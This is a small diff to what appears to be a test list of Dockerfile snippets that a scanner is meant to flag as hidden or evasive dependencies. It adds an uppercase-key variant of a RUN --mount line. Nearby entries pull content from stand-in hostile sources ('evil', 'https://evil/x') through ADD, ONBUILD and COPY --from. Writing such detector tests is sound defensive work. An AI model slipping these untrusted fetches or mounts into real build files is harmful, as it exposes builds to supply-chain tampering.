@@ -69,6 +69,7 @@ HIDDEN = [
     "COPY --from=a:b / /",
     "RUN --mount=type=bind,from=evil,target=/x true",
     "RUN --mount=from=evil true",
+    "RUN --mount=type=bind,FROM=evil,target=/x true",
     "ONBUILD ADD https://evil/x /\nFROM b",
     "onbuild copy --from=evil / /",
     "ADD\thttps://evil/x /",
